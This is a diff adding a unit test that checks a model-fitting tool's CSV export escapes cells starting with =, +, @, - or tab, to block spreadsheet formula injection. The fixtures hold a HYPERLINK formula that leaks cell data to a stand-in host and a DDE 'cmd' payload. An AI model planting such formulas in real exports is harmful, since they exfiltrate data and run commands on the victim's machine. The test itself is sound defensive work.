@@ -329,3 +329,15 @@ def test_fit_says_apart_the_models_left_out_as_too_big_and_those_refused(monkeyp
     assert run(["fit", "--gpu", "rtx-4090", "--task", "infer", "--engine", "vllm", "--speculative-method", "mtp"]) == 0
     out = " ".join(capsys.readouterr().out.split())
     assert "9 more do not fit even with changes on these cards; 83 are refused as asked; --all lists them" in out
+
+
+def test_text_a_spreadsheet_would_run_is_written_as_text():
+    """Session 18's security audit: a price list's region '=1+1' or instance '+1+cmd|...' came out of
+    `--format csv` as written, and a spreadsheet opening it ran them as formulas (OWASP's CSV injection); now a
+    ' goes before such text, and numbers (and numbers written as text) stay as they are."""
+    cols = [Column("a", "a"), Column("b", "b")]
+    rows = [{"a": '=HYPERLINK("http://x.example/?"&A1,"x")', "b": "+1+cmd|' /C calc'!A0"},
+            {"a": "@SUM(1,1)", "b": "-2+3"}, {"a": "\tx", "b": "-1.5"}, {"a": -2.0, "b": "a=1"}]
+    assert list(csv.reader(io.StringIO(to_csv(rows, cols)))) == [
+        ["a", "b"], ['\'=HYPERLINK("http://x.example/?"&A1,"x")', "'+1+cmd|' /C calc'!A0"],
+        ["'@SUM(1,1)", "'-2+3"], ["'\tx", "-1.5"], ["-2.0", "a=1"]]
